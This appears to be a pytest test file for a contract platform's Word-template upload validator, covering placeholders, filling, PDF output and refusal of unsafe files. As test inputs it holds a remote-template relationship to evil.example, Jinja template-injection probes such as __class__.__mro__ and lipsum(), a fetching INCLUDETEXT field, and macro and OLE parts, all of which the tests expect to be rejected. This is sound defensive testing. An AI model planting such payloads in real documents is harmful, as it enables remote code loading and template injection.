import subprocess
import sys
import zipfile
from io import BytesIO

import docx
import pytest

from contract_platform.application.forms.placeholders import MEANINGS, placeholders
from contract_platform.application.forms.samples import AT, sample
from contract_platform.documents.forms.checking import faults_of
from contract_platform.documents.forms.composing import composed
from contract_platform.documents.forms.shelf import Shelf
from contract_platform.documents.forms.writer import TEMPLATES, WordForms
from contract_platform.domain.form_vocabulary import FormKind
from tests.unit.forms.pages import text_of_pdf, texts_of_docx
from tools.build_templates import AT as BUILT_AT
from tools.forms.letters import LETTERS
from tools.forms.sheets import SHEETS

FORMS = WordForms()
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
REMOTE = (
    f'<Relationships xmlns="{RELATIONS}">'
    '<Relationship Id="a" Type="t" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
RECEIPT = FormKind.ACCEPTANCE_NOTICE


def template(tmp_path, *paragraphs, edit=None, form=RECEIPT):
    """A file with these paragraphs; ``edit`` may put more into the document."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if edit is not None:
        edit(document)
    path = tmp_path / "模板.docx"
    document.save(path)
    return [reason.code for reason in faults_of(path, sample(form), Shelf())]


def with_part(tmp_path, name, content):
    """A sound template with one part more in its package."""
    path = tmp_path / "模板.docx"
    document = docx.Document()
    document.add_paragraph("{{ contract_name }}")
    document.save(path)
    with zipfile.ZipFile(path, "a") as package:
        package.writestr(name, content)
    return [reason.code for reason in faults_of(path, sample(RECEIPT), Shelf())]


@pytest.mark.parametrize("form", FormKind)
def test_every_form_has_a_template_that_ships_and_passes_what_uploads_have_to_pass(form):
    assert faults_of(TEMPLATES / f"{form.lower()}.docx", sample(form), Shelf()) == ()


@pytest.mark.parametrize("form", FormKind)
def test_the_templates_are_those_of_the_code(form):
    built = composed((LETTERS | SHEETS)[form], BUILT_AT)
    assert built == (TEMPLATES / f"{form.lower()}.docx").read_bytes()


@pytest.mark.parametrize("form", FormKind)
def test_a_filled_form_leaves_no_placeholder_and_its_pdf_says_the_same(form):
    written = FORMS.fill(FORMS.built_in(form), sample(form), AT)
    texts = texts_of_docx(written)
    assert not any("{{" in text or "{%" in text for text in texts)
    shown = text_of_pdf(FORMS.lay_out(written, AT))
    at = 0
    for text in texts:
        at = shown.index(text[:12], at)


@pytest.mark.parametrize("form", FormKind)
def test_every_placeholder_is_explained(form):
    assert {one.name for one in placeholders(form)} - set(MEANINGS) == set()


def test_no_explanation_is_left_over():
    assert set(MEANINGS) == {one.name for form in FormKind for one in placeholders(form)}


def test_a_plain_template_is_taken(tmp_path):
    assert template(tmp_path, "{{ unit }}：《{{ contract_name }}》", "{{ bureau }}　{{ dated }}") == []


def test_lists_and_conditions_are_taken(tmp_path):
    texts = ("{%p for one in items %}", "{{ one.no }}{{ one.text }}{% if loop.last %}。{% endif %}", "{%p endfor %}")
    assert template(tmp_path, *texts, form=FormKind.SUPPLEMENT_NOTICE) == []


@pytest.mark.parametrize(
    ("texts", "code"),
    [
        (("{{ contract_nmae }}",), "form_placeholder_unknown"),
        (("{{ one.no }}",), "form_placeholder_unknown"),
        (("{% if agreed %}{{ nothing_like_this }}{% endif %}",), "form_placeholder_unknown"),
        (("{{ contract_name",), "form_syntax"),
        (("{%p for one in unit %}", "{{ one }}"), "form_syntax"),
        (("{{ contract_name.__class__ }}",), "form_placeholder_unknown"),
        (("{{ contract_name.__class__.__mro__ }}",), "form_placeholder_unknown"),
        (("{{ lipsum() }}",), "form_language"),
        (("{{ contract_name | replace('a', 'b') }}",), "form_language"),
        (("{% for a in range(99999999) %}{{ unit }}{% endfor %}",), "form_language"),
        (("{% set a = unit %}{{ a }}",), "form_language"),
        (("{% include 'x' %}{{ unit }}",), "form_language"),
        (("只有文字",), "form_without_placeholders"),
    ],
)
def test_language_that_does_not_fit_is_refused_with_its_reason(tmp_path, texts, code):
    assert template(tmp_path, *texts) == [code]


def test_a_misspelt_placeholder_is_named(tmp_path):
    path = tmp_path / "模板.docx"
    document = docx.Document()
    document.add_paragraph("{{ contract_nmae }}")
    document.save(path)
    (reason,) = faults_of(path, sample(RECEIPT), Shelf())
    assert reason.params == {"names": ["contract_nmae"]}


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("word/vbaProject.bin", b"macro", "form_active_content"),
        ("word/embeddings/oleObject1.bin", b"object", "form_active_content"),
        (
            "word/_rels/settings.xml.rels",
            REMOTE,
            "form_external_link",
        ),
    ],
)
def test_what_is_active_or_points_elsewhere_is_refused(tmp_path, name, content, code):
    assert with_part(tmp_path, name, content) == [code]


def test_a_field_that_fetches_is_refused(tmp_path):
    def edit(document):
        run = document.add_paragraph().add_run()
        code = run._r.makeelement(docx.oxml.ns.qn("w:instrText"), {})
        code.text = ' INCLUDETEXT "//server/share/x.docx" '
        run._r.append(code)

    assert template(tmp_path, "{{ unit }}", edit=edit) == ["form_field"]


def test_a_table_in_a_table_is_refused_by_name(tmp_path):
    def edit(document):
        document.add_table(1, 1).cell(0, 0).add_table(1, 1)

    path = tmp_path / "模板.docx"
    document = docx.Document()
    document.add_paragraph("{{ unit }}")
    edit(document)
    document.save(path)
    (reason,) = faults_of(path, sample(RECEIPT), Shelf())
    assert (reason.code, reason.params) == ("form_not_set", {"parts": ["NESTED_TABLE"]})


def test_a_file_that_is_no_word_file_is_refused(tmp_path):
    path = tmp_path / "模板.docx"
    path.write_bytes(b"PK\x03\x04 nothing")
    assert [reason.code for reason in faults_of(path, sample(RECEIPT), Shelf())] == ["form_unreadable"]
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("x.txt", "x")
    assert [reason.code for reason in faults_of(path, sample(RECEIPT), Shelf())] == ["form_not_word"]


def test_the_check_runs_in_a_confined_child(tmp_path):
    path = tmp_path / "模板.docx"
    document = docx.Document()
    document.add_paragraph("{{ unit }} {{ nobody }}")
    document.save(path)
    (reason,) = FORMS.faults(path, RECEIPT, sample(RECEIPT))
    assert (reason.code, reason.params) == ("form_placeholder_unknown", {"names": ["nobody"]})
    good = tmp_path / "good.docx"
    good.write_bytes(FORMS.built_in(FormKind.REVIEW_OPINION))
    assert FORMS.faults(good, FormKind.REVIEW_OPINION, sample(FormKind.REVIEW_OPINION)) == ()


def test_values_cannot_become_markup_or_placeholders():
    content = sample(RECEIPT) | {"unit": "甲&乙<w:p/>{{ 7*7 }}{% for %}"}
    written = FORMS.fill(FORMS.built_in(RECEIPT), content, AT)
    assert texts_of_docx(written)[1] == "甲&乙<w:p/>{{7*7}}{%for%}："


def test_signs_that_no_file_can_hold_are_left_out():
    content = sample(RECEIPT) | {"unit": "甲\x00\x07\ufffe乙"}
    assert texts_of_docx(FORMS.fill(FORMS.built_in(RECEIPT), content, AT))[1] == "甲乙："


def test_a_process_that_makes_no_document_loads_no_library_for_it():
    code = (
        "import sys; from contract_platform.documents.forms.writer import WordForms; WordForms();"
        "print({'docxtpl', 'fpdf', 'fontTools', 'docx'} & set(sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "set()"


def test_a_mark_is_written_over_every_page():
    written = FORMS.fill(FORMS.built_in(RECEIPT), sample(RECEIPT), AT, mark="预览件")
    for header in (docx.Document(BytesIO(written)).sections[0].header,):
        assert header.paragraphs[0].text == "预览件"
